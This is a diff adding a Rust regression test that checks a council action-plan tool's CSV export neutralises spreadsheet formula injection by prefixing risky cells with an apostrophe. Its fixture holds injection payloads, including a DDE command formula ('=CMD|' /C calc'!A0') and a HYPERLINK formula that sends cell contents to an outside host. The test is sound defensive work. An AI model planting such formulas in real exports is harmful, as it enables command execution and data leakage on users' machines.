@@ -503,3 +503,151 @@ fn text_of_wide_characters_was_not_cut_at_excels_limit() {
         assert!(cell.ends_with("more characters do not fit in a cell; see the plan]"));
     }
 }
+
+/// A plan whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return, as
+/// an analyst's spreadsheet or another council's system may send it: each action
+/// opens its title with one of them, and its owners, partners, timescale, evidence
+/// and note do too. The last action is ordinary; the one keyed `-2` is due in year
+/// −3, whose date begins with `-`.
+fn plan_of_formulas() -> ragplan_core::Plan {
+    let action = |key: &str, title: &str| {
+        serde_json::json!({
+            "key": key,
+            "title": title,
+            "action_rag": "amber",
+            "status": "in_progress",
+            "timescale": {"text": "2015/16", "kind": "financial_year", "start": "2015-04-01", "due": "2016-03-31"},
+            "accountable": [{"name": "Ann Lee"}],
+            "updates": [{"on": "2015-06-01", "by": "Ann Lee", "delivery": "amber"}],
+        })
+    };
+    let mut actions = vec![
+        serde_json::json!({
+            "key": "1.1.1",
+            "title": "=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")",
+            "action_rag": "green",
+            "status": "in_progress",
+            "timescale": {"text": "=DATE(2015,5,31)", "kind": "unresolved"},
+            "accountable": [{"name": "-3"}, {"name": "Ann Lee"}],
+            "responsible": [{"name": "@Bob Jones"}],
+            "partners": ["+Police", "Health"],
+            "evidence": ["=1+1"],
+            "updates": [{"on": "2015-06-01", "by": "Ann Lee", "delivery": "green", "note": "\r=1+1"}],
+        }),
+        action("1.1.2", "+Train front-line staff"),
+        action("1.1.3", "-Agree the protocol"),
+        action("1.1.4", "@SUM(A1:A9)"),
+        action("1.1.5", "\tPublish the leaflet"),
+        action("1.1.6", "\rRun the audit"),
+        action("1.1.7", "'=already quoted"),
+        action("-2", "'Twas agreed"),
+        action("1.1.9", "Set up the MASH"),
+    ];
+    actions[7]["timescale"] = serde_json::json!({"text": "-3", "kind": "year", "start": "-0003-01-01", "due": "-0003-12-31"});
+    let plan = serde_json::json!({
+        "format": "ragplan/2",
+        "id": "formulas",
+        "title": "=Plan title",
+        "reported_on": "2015-06-30",
+        "objectives": [{
+            "key": "1",
+            "title": "=CMD|' /C calc'!A0",
+            "sub_objectives": [{"key": "1.1", "title": "+Share information", "actions": actions}],
+        }],
+    });
+    ragplan_core::Plan::from_json(&plan.to_string()).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// Text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return went into
+/// the CSV as it was, which Excel and LibreOffice run as a formula ("CSV injection").
+/// `ragplan status --format csv` and `ragplan report --format csv` now write such a
+/// text cell with a `'` before it; the dates are values and stay as they are, and
+/// every other cell is unchanged.
+#[test]
+fn csv_formula_injection_is_neutralised() {
+    use ragplan_report::csv::{ACTIONS_CSV_HEADER, FORMULA_STARTS};
+    let plan = plan_of_formulas();
+    let (ratings, _) = crate::common::rated(&plan, day(2015, 6, 30), None);
+    let status_csv = ragplan_report::actions_csv(&ratings).unwrap_or_else(|e| panic!("{e}"));
+    let report = ragplan_report::Report::build(&ratings, None, &Default::default());
+    let report_csv = text(render(&report, Format::Csv).unwrap_or_else(|e| panic!("{e}")));
+    assert_eq!(report_csv, status_csv, "the report's CSV is the status CSV");
+
+    let mut reader = csv::Reader::from_reader(status_csv.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let col = |name: &str| ACTIONS_CSV_HEADER.iter().position(|h| *h == name).unwrap();
+    let cells = |name: &str| records.iter().map(|r| r[col(name)].to_owned()).collect::<Vec<_>>();
+    assert_eq!(
+        cells("action"),
+        [
+            "'=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")",
+            "'+Train front-line staff",
+            "'-Agree the protocol",
+            "'@SUM(A1:A9)",
+            "'\tPublish the leaflet",
+            "'\rRun the audit",
+            "''=already quoted",
+            "'Twas agreed",
+            "Set up the MASH",
+        ]
+    );
+    let first = &records[0];
+    assert_eq!(&first[col("objective")], "'=CMD|' /C calc'!A0");
+    assert_eq!(&first[col("sub_objective")], "'+Share information");
+    assert_eq!(&first[col("accountable")], "'-3; Ann Lee");
+    assert_eq!(&first[col("responsible")], "'@Bob Jones");
+    assert_eq!(&first[col("partners")], "'+Police; Health");
+    assert_eq!(&first[col("timescale")], "'=DATE(2015,5,31)");
+    assert_eq!(&first[col("latest_note")], "'\r=1+1");
+    // A key is text: `-2` is not the number −2.
+    assert_eq!(cells("key")[7], "'-2");
+    assert_eq!(cells("timescale")[7], "'-3");
+
+    // The dates are values, written as ragplan spells them, even one beginning with `-`.
+    assert!(cells("as_of").iter().all(|d| d == "2015-06-30"), "{:?}", cells("as_of"));
+    assert_eq!(cells("due")[7], "-0003-12-31");
+    assert_eq!(cells("due")[8], "2016-03-31");
+
+    // The ordinary action's cells are as they were.
+    let last = &records[8];
+    let ordinary: Vec<&str> = ["plan_id", "key", "action", "delivery", "status", "accountable"]
+        .iter()
+        .map(|name| &last[col(name)])
+        .collect();
+    assert_eq!(
+        ordinary,
+        ["formulas", "1.1.9", "Set up the MASH", "Amber", "in progress", "Ann Lee"]
+    );
+
+    // No text cell opens with a formula's first character, and each reads back as the
+    // plan has it.
+    for record in &records {
+        for (name, cell) in ACTIONS_CSV_HEADER.iter().zip(record) {
+            if !["as_of", "due"].contains(name) {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{name}: {cell:?}");
+            }
+        }
+    }
+    for (record, node) in records.iter().zip(ratings.actions()) {
+        let action = node.action().unwrap_or_else(|| panic!("not an action"));
+        let names = |owners: &[ragplan_core::Owner]| {
+            owners.iter().map(|o| o.name.as_str()).collect::<Vec<_>>().join("; ")
+        };
+        assert_eq!(crate::common::read_back(&record[col("key")]), action.key.as_str());
+        assert_eq!(crate::common::read_back(&record[col("action")]), action.title);
+        assert_eq!(
+            crate::common::read_back(&record[col("accountable")]),
+            names(&action.accountable)
+        );
+        assert_eq!(
+            crate::common::read_back(&record[col("responsible")]),
+            names(&action.responsible)
+        );
+        assert_eq!(crate::common::read_back(&record[col("partners")]), action.partners.join("; "));
+        assert_eq!(crate::common::read_back(&record[col("timescale")]), action.timescale.text);
+        assert_eq!(
+            crate::common::read_back(&record[col("latest_note")]),
+            action.latest_note().unwrap_or("")
+        );
+    }
+}
